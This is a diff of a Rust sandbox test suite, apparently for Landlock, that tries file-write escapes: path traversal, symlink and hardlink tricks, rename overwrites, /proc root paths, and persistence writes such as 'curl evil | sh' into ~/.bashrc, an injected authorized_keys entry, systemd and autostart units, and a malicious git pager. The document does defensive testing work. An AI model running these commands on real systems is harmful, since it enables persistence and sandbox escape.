@@ -55,8 +55,19 @@ pub fn cases() -> Vec<Case> {
         Case::attack(
             "writes/metadata",
             c,
-            "truncate, chmod, touch and remove an outside file; mkdir and rmdir outside",
+            "truncate and remove an outside file; remove a directory outside; mkdir outside",
             metadata,
+        ),
+        Case::attack(
+            "writes/mode-and-times",
+            c,
+            "chmod and touch -d an outside file the user owns",
+            mode_and_times,
+        )
+        .landlock_limit(
+            "Landlock has no access right for a file's metadata: chmod, chown and utimes on a \
+             file the user owns outside the writable set still succeed (its content, removal, \
+             renaming and new entries beside it are refused, as writes/metadata shows)",
         ),
         Case::attack(
             "writes/proc-paths",
@@ -93,11 +104,16 @@ fn dotdot(ctx: &Ctx<'_>) -> Outcome {
         ctx.outside.join("dotdot-sibling.txt"),
         ctx.dir.join("dotdot-parent.txt"),
     ];
-    let out = ctx.sh(
-        "echo x > ../dotdot-home.txt; echo x > ../../outside/dotdot-sibling.txt; \
-         echo x > ./sub/../../../dotdot-parent.txt 2>/dev/null; mkdir -p sub; \
-         echo x > ./sub/../../../dotdot-parent.txt",
-    );
+    if let Err(e) = ctx.scratch() {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let out = ctx.sh_steps(&[
+        "echo x > ../dotdot-home.txt",
+        "echo x > ../../outside/dotdot-sibling.txt",
+        "echo x > ./scratch/sub/../../../../dotdot-parent.txt 2>/dev/null",
+        "mkdir -p scratch/sub",
+        "echo x > ./scratch/sub/../../../../dotdot-parent.txt",
+    ]);
     let hit: Vec<String> = targets
         .iter()
         .filter(|t| exists(t))
@@ -114,12 +130,21 @@ fn symlink(ctx: &Ctx<'_>) -> Outcome {
     let _ = ctx.own(&planted);
     let a = ctx.outside.join("via-planted.txt");
     let b = ctx.outside.join("via-made.txt");
-    let out = ctx.sh(&format!(
-        "echo x > planted-link/via-planted.txt; ln -s {} made-link; echo x > made-link/via-made.txt; \
-         ln -s {} made-file-link; echo x > made-file-link",
-        qp(&ctx.outside),
+    if let Err(e) = ctx.scratch() {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let made_link = format!("ln -s {} scratch/made-link", qp(&ctx.outside));
+    let made_file_link = format!(
+        "ln -s {} scratch/made-file-link",
         qp(&ctx.outside.join("via-file-link.txt"))
-    ));
+    );
+    let out = ctx.sh_steps(&[
+        "echo x > planted-link/via-planted.txt",
+        &made_link,
+        "echo x > scratch/made-link/via-made.txt",
+        &made_file_link,
+        "echo x > scratch/made-file-link",
+    ]);
     let c = ctx.outside.join("via-file-link.txt");
     let hit = exists(&a) || exists(&b) || exists(&c);
     ctx.judge(
@@ -139,10 +164,16 @@ fn hardlink(ctx: &Ctx<'_>) -> Outcome {
     if let Err(e) = ctx.plant(&target, "ORIGINAL\n") {
         return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
     }
-    let out = ctx.sh(&format!(
-        "ln {t} hl 2>&1; echo pwned >> hl 2>&1; ln -P {t} hl2 2>&1; echo pwned >> hl2",
-        t = qp(&target)
-    ));
+    if let Err(e) = ctx.scratch() {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let t = qp(&target);
+    let out = ctx.sh_steps(&[
+        &format!("ln {t} scratch/hl 2>&1"),
+        "echo pwned >> scratch/hl 2>&1",
+        &format!("ln -P {t} scratch/hl2 2>&1"),
+        "echo pwned >> scratch/hl2",
+    ]);
     let now = std::fs::read_to_string(&target).unwrap_or_default();
     let links = std::fs::metadata(&target).map(|m| m.nlink()).unwrap_or(0);
     ctx.judge(
@@ -160,12 +191,19 @@ fn rename(ctx: &Ctx<'_>) -> Outcome {
             return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
         }
     }
-    let out = ctx.sh(&format!(
-        "echo evil > new.txt; mv -f new.txt {v}; mv -f {m} ./stolen.txt; \
-         echo evil > new2.txt; python3 -c 'import os,sys; os.rename(sys.argv[1], sys.argv[2])' new2.txt {v}",
-        v = qp(&victim),
-        m = qp(&movable)
-    ));
+    if let Err(e) = ctx.scratch() {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let (v, m) = (qp(&victim), qp(&movable));
+    let out = ctx.sh_steps(&[
+        "echo evil > scratch/new.txt",
+        &format!("mv -f scratch/new.txt {v}"),
+        &format!("mv -f {m} scratch/stolen.txt"),
+        "echo evil > scratch/new2.txt",
+        &format!(
+            "python3 -c 'import os,sys; os.rename(sys.argv[1], sys.argv[2])' scratch/new2.txt {v}"
+        ),
+    ]);
     let v = std::fs::read_to_string(&victim).unwrap_or_default();
     let moved = !exists(&movable);
     ctx.judge(
@@ -182,9 +220,10 @@ fn host_tmp(ctx: &Ctx<'_>) -> Outcome {
         Path::new("/var/tmp").join(&name),
         Path::new("/dev/shm").join(&name),
     ];
-    let out = ctx.sh(&format!(
-        "for d in /tmp /var/tmp /dev/shm; do echo x > $d/{name}; done; mkdir -p /tmp/{name}.d"
-    ));
+    let out = ctx.sh_steps(&[
+        &format!("for d in /tmp /var/tmp /dev/shm; do echo x > $d/{name}; done"),
+        &format!("mkdir -p /tmp/{name}.d"),
+    ]);
     let hit: Vec<String> = targets
         .iter()
         .chain([&Path::new("/tmp").join(format!("{name}.d"))])
@@ -215,13 +254,16 @@ fn dotfiles(ctx: &Ctx<'_>) -> Outcome {
         ".bash_logout",
         ".config/systemd/user/evil.service",
     ];
-    let out = ctx.sh(
-        "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.profile; \
-         echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys; \
-         mkdir -p ~/.config/autostart ~/.config/systemd/user; echo evil > ~/.config/autostart/evil.desktop; \
-         echo evil > ~/.config/systemd/user/evil.service; \
-         git config --global core.pager 'sh -c evil'; echo evil > ~/.bash_logout",
-    );
+    let out = ctx.sh_steps(&[
+        "echo 'curl evil | sh' >> ~/.bashrc",
+        "echo evil > ~/.profile",
+        "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys",
+        "mkdir -p ~/.config/autostart ~/.config/systemd/user",
+        "echo evil > ~/.config/autostart/evil.desktop",
+        "echo evil > ~/.config/systemd/user/evil.service",
+        "git config --global core.pager 'sh -c evil'",
+        "echo evil > ~/.bash_logout",
+    ]);
     let rc = std::fs::read_to_string(&bashrc).unwrap_or_default();
     let hit: Vec<&str> = created
         .iter()
@@ -243,7 +285,6 @@ fn dotfiles(ctx: &Ctx<'_>) -> Outcome {
 }
 
 fn metadata(ctx: &Ctx<'_>) -> Outcome {
-    use std::os::unix::fs::PermissionsExt;
     let victim = ctx.outside.join("victim.txt");
     let victim_dir = ctx.outside.join("victim-dir");
     if let Err(e) = ctx.plant(&victim_dir.join("keep.txt"), "ORIGINAL\n") {
@@ -252,22 +293,22 @@ fn metadata(ctx: &Ctx<'_>) -> Outcome {
     if let Err(e) = ctx.plant(&victim, "ORIGINAL\n") {
         return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
     }
-    let before = std::fs::metadata(&victim).ok();
-    let out = ctx.sh(&format!(
-        ": > {v}; chmod 777 {v}; touch -d 2001-01-01 {v}; rm -f {v}; rm -rf {d}; mkdir {o}/new-dir",
-        v = qp(&victim),
-        d = qp(&victim_dir),
-        o = qp(&ctx.outside)
-    ));
-    let after = std::fs::metadata(&victim).ok();
-    let content = std::fs::read_to_string(&victim).unwrap_or_default();
-    let changed = match (&before, &after) {
-        (Some(b), Some(a)) => {
-            b.permissions().mode() != a.permissions().mode() || b.mtime() != a.mtime()
-        }
-        _ => true,
-    };
-    let hit = changed
+    // `true >`, not `: >`: `:` is a special built-in, and a failed redirection on one makes
+    // `sh` exit, so the steps after it never ran where the truncation was refused (the step
+    // markers now make that INCONCLUSIVE).
+    let (v, d, o) = (qp(&victim), qp(&victim_dir), qp(&ctx.outside));
+    let out = ctx.sh_steps(&[
+        &format!("true > {v}"),
+        &format!("truncate -s 0 {v}"),
+        &format!("rm -f {v}"),
+        &format!("rm -rf {d}"),
+        &format!("rmdir {d}"),
+        &format!("mkdir {o}/new-dir"),
+    ]);
+    let content = std::fs::read_to_string(&victim);
+    let removed = content.is_err();
+    let content = content.unwrap_or_default();
+    let hit = removed
         || content != "ORIGINAL\n"
         || !exists(&victim_dir.join("keep.txt"))
         || exists(&ctx.outside.join("new-dir"));
@@ -275,10 +316,38 @@ fn metadata(ctx: &Ctx<'_>) -> Outcome {
         &out,
         hit,
         format!(
-            "content {content:?}, mode/mtime changed: {changed}, dir kept: {}, new dir: {}",
+            "content {content:?}, removed: {removed}, dir kept: {}, new dir: {}",
             exists(&victim_dir.join("keep.txt")),
             exists(&ctx.outside.join("new-dir"))
         ),
+    )
+}
+
+fn mode_and_times(ctx: &Ctx<'_>) -> Outcome {
+    use std::os::unix::fs::PermissionsExt;
+    let victim = ctx.outside.join("victim.txt");
+    if let Err(e) = ctx.plant(&victim, "ORIGINAL\n") {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let before = std::fs::metadata(&victim).ok();
+    let v = qp(&victim);
+    let out = ctx.sh_steps(&[
+        &format!("chmod 777 {v}"),
+        &format!("touch -d 2001-01-01 {v}"),
+        &format!("chmod g+s {v}"),
+    ]);
+    let after = std::fs::metadata(&victim).ok();
+    let (mode, mtime) = match (&before, &after) {
+        (Some(b), Some(a)) => (
+            b.permissions().mode() != a.permissions().mode(),
+            b.mtime() != a.mtime(),
+        ),
+        _ => (true, true),
+    };
+    ctx.judge(
+        &out,
+        mode || mtime,
+        format!("mode changed: {mode}, mtime changed: {mtime}"),
     )
 }
 
@@ -305,11 +374,14 @@ fn dir_fd(ctx: &Ctx<'_>) -> Outcome {
 fn proc_paths(ctx: &Ctx<'_>) -> Outcome {
     let names = ["via-self-root", "via-pid1-root", "via-cwd"];
     let o = ctx.outside.display().to_string();
-    let out = ctx.sh(&format!(
-        "echo x > /proc/self/root{o}/via-self-root; echo x > /proc/1/root{o}/via-pid1-root; \
-         echo x > /proc/self/cwd/../../outside/via-cwd; \
-         for p in /proc/[0-9]*/root; do echo x > \"$p{o}/via-any-root\" 2>/dev/null; done; true"
-    ));
+    let out = ctx.sh_steps(&[
+        &format!("echo x > /proc/self/root{o}/via-self-root"),
+        &format!("echo x > /proc/1/root{o}/via-pid1-root"),
+        "echo x > /proc/self/cwd/../../outside/via-cwd",
+        &format!(
+            "for p in /proc/[0-9]*/root; do echo x > \"$p{o}/via-any-root\" 2>/dev/null; done"
+        ),
+    ]);
     let hit: Vec<&str> = names
         .iter()
         .chain(["via-any-root"].iter())
